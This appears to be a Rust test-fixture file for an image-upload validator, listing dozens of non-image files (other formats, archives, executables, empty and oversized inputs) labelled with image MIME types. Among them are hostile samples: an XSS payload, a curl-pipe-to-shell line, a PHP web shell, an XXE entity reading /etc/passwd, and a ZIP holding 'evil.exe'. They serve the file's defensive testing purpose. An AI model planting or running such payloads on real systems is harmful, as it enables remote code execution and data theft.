//! Files of other kinds, which say that they are pictures.

use image::ImageFormat;

use super::{Bad, bad};
use crate::pictures::parts::{film, zip};
use crate::pictures::{noise, small};

/// Each with a name that says what it is, and none of the four formats that are taken.
pub fn all() -> Vec<Bad> {
    let marked: [(&str, &[u8]); 56] = [
        ("a text", b"just text, nothing else"),
        ("a page", b"<!doctype html><html><body><img src=x onerror=alert(1)></body></html>"),
        ("a page with a mark of byte order", b"\xEF\xBB\xBF<html><script>alert(1)</script></html>"),
        ("a script", b"#!/bin/sh\ncurl http://example.com | sh\n"),
        ("PHP", b"<?php system($_GET['c']); ?>"),
        ("JSON", b"{\"image\": \"data:image/png;base64,iVBORw0KGgo=\"}"),
        (
            "a data address",
            b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk",
        ),
        (
            "PNG in base64",
            b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
        ),
        ("CSV", b"name,category,price\nSoup,Mains,4.50\n"),
        ("SVG", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        (
            "SVG with a declaration",
            b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
        ),
        ("SVGZ", b"\x1F\x8B\x08\0\0\0\0\0\0\x03\xB3\x29\x2E\x4B\x07\0"),
        ("TIFF", b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x01\0\0\0\0\0\0\0"),
        ("TIFF the other way around", b"MM\0*\0\0\0\x08\0\x01\x01\0\0\x03\0\0\0\x01\0\x01\0\0\0\0\0\0"),
        ("BigTIFF", b"II+\0\x08\0\0\0\x10\0\0\0\0\0\0\0"),
        ("a raw picture of Canon", b"II*\0\x10\0\0\0CR\x02\0"),
        ("a raw picture of Fuji", b"FUJIFILMCCD-RAW 0201FF383501"),
        (
            "BMP",
            b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x02\0\0\0\x02\0\0\0\x01\0\x18\0\0\0\0\0\x10\0\0\0",
        ),
        ("ICO", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0"),
        ("CUR", b"\0\0\x02\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0"),
        ("ICNS", b"icns\0\0\0\x10ic07\0\0\0\x08"),
        ("AVIF", b"\0\0\0\x20ftypavif\0\0\0\0avifmif1miafMA1B"),
        ("an animated AVIF", b"\0\0\0\x20ftypavis\0\0\0\0avifavismsf1miaf"),
        ("HEIC", b"\0\0\0\x24ftypheic\0\0\0\0mif1MiHEmiafMiHBheic"),
        ("HEIF", b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic"),
        ("JPEG XL", b"\xFF\x0A\xFA\x7F\x90\xB2\x08\x06\x01\0"),
        ("JPEG XL in boxes", b"\0\0\0\x0CJXL \x0D\x0A\x87\x0A\0\0\0\x14ftypjxl \0\0\0\0jxl "),
        ("JPEG 2000", b"\0\0\0\x0CjP  \x0D\x0A\x87\x0A\0\0\0\x14ftypjp2 \0\0\0\0jp2 "),
        ("JPEG 2000 without boxes", b"\xFF\x4F\xFF\x51\0\x2F\0\0\0\0\x01\0"),
        ("JPEG XR", b"II\xBC\x01\x08\0\0\0"),
        ("PSD", b"8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x10\0\0\0\x10\0\x08\0\x03"),
        ("PDF", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"),
        ("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\nshowpage\n"),
        ("GIMP's own", b"gimp xcf v011\0\0\0\0\x10\0\0\0\x10\0\0\0\0"),
        ("DDS", b"DDS \x7C\0\0\0\x07\x10\0\0\x10\0\0\0\x10\0\0\0"),
        ("PPM", b"P6\n2 2\n255\n\xFF\0\0\xFF\0\0\xFF\0\0\xFF\0\0"),
        ("farbfeld", b"farbfeld\0\0\0\x01\0\0\0\x01\xFF\xFF\0\0\0\0\xFF\xFF"),
        ("QOI", b"qoif\0\0\0\x01\0\0\0\x01\x03\0\xFE\xFF\0\0\0\0\0\0\0\0\0\x01"),
        ("OpenEXR", b"v/1\x01\x02\0\0\0channels\0chlist\0"),
        ("Radiance", b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n"),
        ("MNG", b"\x8AMNG\r\n\x1A\n\0\0\0\x1CMHDR"),
        ("JNG", b"\x8BJNG\r\n\x1A\n\0\0\0\x10JHDR"),
        ("gzip", b"\x1F\x8B\x08\0\0\0\0\0\0\x03\xCB\x48\xCD\xC9\xC9\x07\0\x86\xA6\x10\x36\x05\0\0\0"),
        ("bzip2", b"BZh91AY&SY\x19\x31\x65\x3D\0\0\0\x81\0\x02\x44\xA0\0\x21\x9A\x68"),
        ("xz", b"\xFD7zXZ\0\0\x04\xE6\xD6\xB4\x46"),
        ("7z", b"7z\xBC\xAF\x27\x1C\0\x04\0\0\0\0"),
        ("RAR", b"Rar!\x1A\x07\x01\0\x33\x92\xB5\xE5\x0A\x01\x05\x06\0\x05\x01\x01\x80\x80\0"),
        ("a program of Linux", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3E\0\x01\0\0\0"),
        ("a program of Windows", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0\xB8\0\0\0"),
        ("a program of macOS", b"\xCF\xFA\xED\xFE\x07\0\0\x01\x03\0\0\0\x02\0\0\0"),
        ("a class of Java", b"\xCA\xFE\xBA\xBE\0\0\0\x37\0\x1D"),
        ("WebAssembly", b"\0asm\x01\0\0\0"),
        ("WAV", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0"),
        ("AVI", b"RIFF\x24\0\0\0AVI LIST\x10\0\0\0hdrl"),
        ("a database", b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20"),
        ("a font", b"OTTO\0\x0B\0\x80\0\x03\0\x30CFF "),
    ];
    let kinds = ["image/png", "image/jpeg", "image/webp", "image/gif", "application/octet-stream"];
    let kind_of = |place: usize| kinds[place % kinds.len()];
    let mut all: Vec<Bad> =
        marked.into_iter().enumerate().map(|(place, (name, file))| bad(name, file, kind_of(place))).collect();
    let inside = [b"BM\0\0\0\0\0\0\0\0\x36\0\0\0".to_vec(), small(ImageFormat::Png)].concat();
    all.extend([
        bad("a ZIP", zip(b"evil.exe", b"MZ\x90\0"), "image/png"),
        bad("a document of an office", zip(b"[Content_Types].xml", b"<?xml version='1.0'?>"), "image/jpeg"),
        bad("a film", film(), "image/jpeg"),
        bad("a PNG behind a header of BMP", inside, "image/png"),
        bad("a PNG behind a space", [b" ".to_vec(), small(ImageFormat::Png)].concat(), "image/png"),
        bad("a JPEG behind a line", [b"\r\n".to_vec(), small(ImageFormat::Jpeg)].concat(), "image/jpeg"),
        bad(
            "text of two bytes a letter",
            "<svg>".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>(),
            "image/png",
        ),
        bad("zeros", vec![0; 5000], "image/png"),
        bad("ones", vec![0xFF; 5000], "image/jpeg"),
        bad("one zero", vec![0], "image/png"),
        bad("a little noise", noise(1000, 3), "image/webp"),
        bad("much noise", noise(3 << 20, 5), "image/jpeg"),
        bad("nothing", Vec::new(), "image/png"),
        bad("a byte more than 8 MiB", vec![0xFF; (8 << 20) + 1], "image/jpeg"),
        bad("12 MiB", vec![0xFF; 12 << 20], "image/jpeg"),
    ]);
    all
}
